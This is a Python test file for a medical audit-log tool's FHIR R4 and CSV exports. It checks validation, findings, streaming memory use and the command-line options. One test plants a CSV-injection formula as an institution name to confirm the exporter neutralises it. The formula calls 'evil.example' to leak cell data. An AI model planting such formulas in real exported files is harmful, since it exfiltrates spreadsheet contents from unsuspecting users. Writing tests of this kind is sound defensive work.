"""The regulator's exports of a whole trail or a whole log: a FHIR R4 Bundle (every event's
AuditEvent and Provenance, the findings with their events, the others as Security Alerts)
validated with an independent FHIR library (fhir.resources), and CSV for spreadsheets (a
documented column set, safe against CSV injection). Both are written as they are made: a
whole log's export takes no more memory than one event's."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pydantic
import pytest
from click.testing import CliRunner
from fhir.resources.auditevent import AuditEvent as R5AuditEvent
from fhir.resources.R4B.auditevent import AuditEvent
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.provenance import Provenance

from ledger.events import InstitutionKind
from scripts import audit_log, verify_trail
from scripts._api import TrailOut
from scripts._common import ChainOptions, Report
from scripts._csv_export import COLUMNS, neutralise, write_csv
from scripts._fhir import fhir_bundle, write_fhir_bundle
from scripts.audit_log import LogIdentity, Mirror, StateFile, audit
from tests.scripts.support import (
    SYNTHETIC_AUDIT_LOG,
    Story,
    anchor,
    api_of,
    chain_now,
    edit_mirror_line,
    export_trail,
    h,
    insert_event,
    regulator_chain,
    swap_leaves,
    synthetic_mirror,
    write_mirror,
)
from tests.support.ledgers import Env

ROOT = Path(__file__).resolve().parents[2]
#: The R4 models (fhir.resources 8 ships R4B's, whose AuditEvent, Provenance and Bundle have
#: R4's elements, types and cardinalities: see the README's dependency table).
R4_MODELS: dict[str, type[pydantic.BaseModel]] = {
    "AuditEvent": AuditEvent,
    "Provenance": Provenance,
}


def validate_r4(bundle: dict[str, Any]) -> list[dict[str, Any]]:
    """Every resource of ``bundle``, each validated as FHIR R4, and the bundle itself."""
    Bundle.model_validate(bundle)
    resources = [entry["resource"] for entry in bundle["entry"]]
    for resource in resources:
        R4_MODELS[resource["resourceType"]].model_validate(resource)
    fulls = [entry["fullUrl"] for entry in bundle["entry"]]
    assert len(set(fulls)) == len(fulls)  # bdl-7: fullUrl unique in a bundle
    assert all(e["fullUrl"] == "urn:uuid:" + e["resource"]["id"] for e in bundle["entry"])
    return resources


def extra_dispense(env: Env, story: Story) -> bytes:
    """A third dispense of the story's two-fill prescription, written behind the service."""
    third = env.pharmacy.dispense(story.prescription, fill=3, occurredAt=chain_now(env) + 1)
    insert_event(env.ledger, env.pharmacy.sign(third), record_ref=story.record)
    anchor(env.ledger)
    return bytes(third.eventId)


def trail_report(env: Env, story: Story) -> Report:
    trail = TrailOut.model_validate(export_trail(env.ledger, story.record))
    return verify_trail.verify(story.record, trail, regulator_chain(env), now=int(time.time()))


def log_report(env: Env, tmp_path: Path, **kw: Any) -> Report:
    deployment = env.ledger.deployment
    identity = LogIdentity(deployment.chain_id, deployment.audit_log)
    with api_of(env) as client:
        return audit(
            Mirror(tmp_path / "mirror.jsonl", identity),
            api=client,
            chain=regulator_chain(env),
            state=StateFile(tmp_path / "state.json", identity),
            now=int(time.time()),
            **kw,
        )


def by_event(resources: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """The events' AuditEvents by event id."""
    found = {}
    for resource in resources:
        if resource["resourceType"] == "AuditEvent" and resource["type"]["code"] != "110101":
            for entity in resource["entity"]:
                identifier = entity["what"].get("identifier", {})
                if identifier.get("system") == "urn:medtrail:event-id":
                    found[identifier["value"]] = resource
    return found


def of_type(resources: list[dict[str, Any]], code: str) -> list[dict[str, Any]]:
    """The AuditEvents of DICOM type ``code`` (110113 Security Alert, 110101 Audit Log Used)."""
    return [r for r in resources if r["resourceType"] == "AuditEvent" and r["type"]["code"] == code]


# --------------------------------------------------------------------------- FHIR


def test_the_trail_exports_as_a_valid_r4_bundle_of_every_event(
    storied: tuple[Env, Story],
) -> None:
    env, story = storied
    dispense = extra_dispense(env, story)
    report = trail_report(env, story)
    resources = validate_r4(fhir_bundle(report))
    events = by_event(resources)
    assert len(events) == len(story.events) + 1 == 8  # every event of the trail
    provenances = [r for r in resources if r["resourceType"] == "Provenance"]
    assert len(provenances) == 8
    bad = events["0x" + dispense.hex()]
    assert bad["outcome"] == "8"
    assert "fills-exceeded" in bad["outcomeDesc"]
    # The same resource is not R5 (whose AuditEvent has no `type`, and a coded `outcome`):
    # the validation tells the versions apart.
    with pytest.raises(pydantic.ValidationError):
        R5AuditEvent.model_validate(bad)


def test_the_whole_log_exports_every_event_with_its_findings(
    storied: tuple[Env, Story], tmp_path: Path
) -> None:
    env, story = storied
    dispense = extra_dispense(env, story)
    swap_leaves(env.ledger, 0, 2)  # the served events no longer make the anchored root
    report = log_report(env, tmp_path)
    assert len(report.events) < 8  # the table lists the offending events only…
    bundle = fhir_bundle(report)
    resources = validate_r4(bundle)
    events = by_event(resources)
    # …the export holds every event of the log, each with its Provenance (its signature).
    assert len(events) == 8
    assert set(events) == {"0x" + s.event_id.hex() for s in story.events} | {"0x" + dispense.hex()}
    provenances = [r for r in resources if r["resourceType"] == "Provenance"]
    assert len(provenances) == 8
    assert all(len(p["signature"]) == 1 for p in provenances)
    # The findings are attached to the events they concern…
    bad = events["0x" + dispense.hex()]
    assert bad["outcome"] == "8"
    details = {d["type"]: d["valueString"] for d in bad["entity"][0]["detail"]}
    assert details["finding:error"].startswith("fills-exceeded: ")
    emergency = events["0x" + story.events[-1].event_id.hex()]
    assert emergency["outcome"] == "0"  # for review, not a failure
    assert any(d["type"] == "finding:review" for d in emergency["entity"][0]["detail"])
    clean = events["0x" + story.events[1].event_id.hex()]
    assert clean["outcomeDesc"] == "verified against the chain: nothing wrong"
    # …and the log's own findings are Security Alerts of their own.
    alerts = of_type(resources, "110113")
    assert sorted(a["subtype"][0]["code"] for a in alerts) == [
        "checkpoint-root-mismatch",  # both checkpoints, 7 and 8, hold the swapped leaves
        "checkpoint-root-mismatch",
        "head-mismatch",
    ]
    assert all(a["outcome"] == "8" for a in alerts)
    (summary,) = of_type(resources, "110101")
    assert summary is resources[0]
    assert summary["outcome"] == "8"


def test_a_malformed_entry_is_a_log_level_alert(storied: tuple[Env, Story], tmp_path: Path) -> None:
    env, _story = storied
    mirror = write_mirror(env.ledger, tmp_path / "exported.jsonl")
    edit_mirror_line(mirror, 2, lambda entry: entry["event"]["event"].update(action=99))
    deployment = env.ledger.deployment
    identity = LogIdentity(deployment.chain_id, deployment.audit_log)
    report = audit(Mirror(mirror, identity), api=None, chain=None, state=None, now=int(time.time()))
    resources = validate_r4(fhir_bundle(report))
    assert len(by_event(resources)) == 6  # the six well-formed events
    codes = [r["subtype"][0]["code"] for r in of_type(resources, "110113")]
    assert sorted(codes) == ["chain-not-consulted", "entry-malformed"]
    rows = list(csv.DictReader(io.StringIO(_csv(report))))
    (malformed,) = [r for r in rows if r["findingCodes"] == "entry-malformed"]
    assert (malformed["row"], malformed["leafIndex"], malformed["result"]) == ("log", "2", "error")


@pytest.mark.parametrize("indent", [None, 2])
def test_the_streamed_bundle_is_the_bundle(
    storied: tuple[Env, Story], tmp_path: Path, indent: int | None
) -> None:
    env, _story = storied
    report = log_report(env, tmp_path)
    out = io.StringIO()
    write_fhir_bundle(report, out, indent=indent)
    text = out.getvalue()
    assert json.loads(text) == fhir_bundle(report)
    assert ("\n  " in text) is (indent is not None)


# --------------------------------------------------------------------------- CSV


def _csv(report: Report) -> str:
    out = io.StringIO(newline="")
    write_csv(report, out)
    return out.getvalue()


def test_the_whole_log_as_csv_one_row_per_event_then_the_log_findings(
    storied: tuple[Env, Story], tmp_path: Path
) -> None:
    env, story = storied
    dispense = extra_dispense(env, story)
    swap_leaves(env.ledger, 0, 2)
    text = _csv(log_report(env, tmp_path))
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    events = [r for r in rows if r["row"] == "event"]
    assert [int(r["leafIndex"]) for r in events] == list(range(8))
    assert {r["eventId"] for r in events} == {"0x" + s.event_id.hex() for s in story.events} | {
        "0x" + dispense.hex()
    }
    bad = next(r for r in events if r["eventId"] == "0x" + dispense.hex())
    assert (bad["type"], bad["result"], bad["findingCodes"]) == (
        "PrescriptionDispensed",
        "error",
        "fills-exceeded",
    )
    assert bad["findings"].startswith("error fills-exceeded: ")
    assert bad["institutionName"] == "Corner Pharmacy"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", bad["occurredAt"])
    assert bad["anchoredIn"] == "8"
    assert bad["recordRef"] == ""  # a dispense names its prescription, not a record
    emergency = next(r for r in events if r["eventId"] == "0x" + story.events[-1].event_id.hex())
    assert (emergency["result"], emergency["findingCodes"]) == ("review", "emergency-access")
    assert emergency["recordRef"] == "0x" + story.record.hex()
    ok = [r for r in events if r["result"] == "ok"]
    assert ok
    assert all(r["findingCodes"] == r["findings"] == "" for r in ok)
    logged = [(r["result"], r["findingCodes"]) for r in rows if r["row"] == "log"]
    assert sorted(logged) == [
        ("error", "checkpoint-root-mismatch"),
        ("error", "checkpoint-root-mismatch"),
        ("error", "head-mismatch"),
    ]


def test_the_trail_as_csv(storied: tuple[Env, Story]) -> None:
    env, story = storied
    rows = list(csv.DictReader(io.StringIO(_csv(trail_report(env, story)))))
    assert [r["eventId"] for r in rows] == ["0x" + s.event_id.hex() for s in story.events]
    assert {r["row"] for r in rows} == {"event"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("cell", ["General Hospital", "0x12ab", "12", "", "a=b", "'quoted"])
def test_other_cells_are_left_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_a_formula_in_an_institution_name_is_written_as_text(storied: tuple[Env, Story]) -> None:
    env, story = storied
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = env.institution(formula, InstitutionKind.HOSPITAL)
    access = hostile.access(
        story.record,
        env.patient.address,
        custodian=env.hospital.address,
        reasonHash=h("curious"),
        occurredAt=chain_now(env) + 1,
    )
    env.ledger.submit([hostile.sign(access)])
    anchor(env.ledger)
    text = _csv(trail_report(env, story))
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["institution"] == hostile.address)
    assert row["institutionName"] == "'" + formula
    cells = [cell for r in csv.reader(io.StringIO(text)) for cell in r]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_csv_columns_are_documented() -> None:
    guide = (ROOT / "docs" / "regulator.md").read_text()
    section = guide[
        guide.index("<!-- csv columns -->") : guide.index("<!-- end of csv columns -->")
    ]
    documented = re.findall(r"^\| `(\w+)` \|", section, flags=re.MULTILINE)
    assert tuple(documented) == COLUMNS


# --------------------------------------------------------------------------- streaming


class _Sink:
    """A text stream that only counts what is written to it."""

    def __init__(self) -> None:
        self.size = 0

    def write(self, text: str) -> int:
        self.size += len(text)
        return len(text)


def _peak(report: Report, write: Callable[[Report, Any], None]) -> tuple[int, int]:
    """(peak bytes allocated while writing the export, characters written)."""
    sink = _Sink()
    gc.collect()
    tracemalloc.start()
    try:
        write(report, sink)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, sink.size


@pytest.fixture(scope="module")
def big_log(tmp_path_factory: pytest.TempPathFactory) -> Report:
    path = synthetic_mirror(tmp_path_factory.mktemp("big") / "mirror.jsonl", 3000)
    report = audit(
        Mirror(path, LogIdentity(31337, SYNTHETIC_AUDIT_LOG)),
        api=None,
        chain=None,
        state=None,
        now=int(time.time()),
    )
    assert report.stats["events"] == 3000
    return report


@pytest.mark.parametrize("export", ["fhir", "csv"])
def test_an_export_of_a_large_log_is_written_as_it_goes(big_log: Report, export: str) -> None:
    """The memory an export takes does not grow with the log: writing every one of 3,000
    events takes about what writing the first 300 does, and a fraction of what is written
    (an export built in memory first would take more than all of it)."""
    write: Callable[[Report, Any], None] = write_fhir_bundle if export == "fhir" else write_csv
    every = list(big_log.every_event())
    small = Report(**{**vars(big_log), "all_events": lambda: iter(every[:300])})
    small_peak, small_size = _peak(small, write)
    peak, size = _peak(big_log, write)
    assert size > 9 * small_size
    assert peak < small_peak + 64 * 1024
    assert peak < size / 4


# --------------------------------------------------------------------------- the commands


def test_verify_trail_prints_csv_and_fhir(
    storied: tuple[Env, Story], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env, story = storied
    path = tmp_path / "trail.json"
    path.write_text(json.dumps(export_trail(env.ledger, story.record)))
    regulator = regulator_chain(env)
    monkeypatch.setattr(ChainOptions, "connect", lambda _self, _spec=None: regulator)
    deployment = env.ledger.deployment
    base = ["0x" + story.record.hex(), "--bundle", str(path), "--rpc-url", "in-process"]
    base += ["--audit-log", deployment.audit_log]
    base += ["--consent-registry", deployment.consent_registry]
    base += ["--institution-registry", deployment.institution_registry]
    table = CliRunner().invoke(verify_trail.main, [*base, "--csv"])
    assert table.exit_code == 0, table.output
    rows = list(csv.DictReader(io.StringIO(table.stdout)))
    assert len(rows) == len(story.events)
    fhir = CliRunner().invoke(verify_trail.main, [*base, "--fhir"])
    assert fhir.exit_code == 0, fhir.output
    assert len(by_event(validate_r4(json.loads(fhir.stdout)))) == len(story.events)


@pytest.mark.parametrize("export", ["--csv", "--fhir"])
def test_audit_log_exports_the_whole_log(
    storied: tuple[Env, Story], tmp_path: Path, export: str
) -> None:
    env, story = storied
    mirror = write_mirror(env.ledger, tmp_path / "exported.jsonl")
    deployment = env.ledger.deployment
    args = ["--offline", "--no-chain", "--mirror", str(mirror), export]
    args += ["--chain-id", str(deployment.chain_id), "--audit-log", deployment.audit_log]
    args += ["--state", str(tmp_path / "state.json"), "--jobs", "1"]
    result = CliRunner().invoke(audit_log.main, args, env={"MEDTRAIL_API_URL": ""})
    assert result.exit_code == 0, result.output
    if export == "--csv":
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert [r["row"] for r in rows] == ["event"] * len(story.events) + ["log"]
        assert rows[-1]["findingCodes"] == "chain-not-consulted"
    else:
        resources = validate_r4(json.loads(result.stdout))
        assert len(by_event(resources)) == len(story.events)
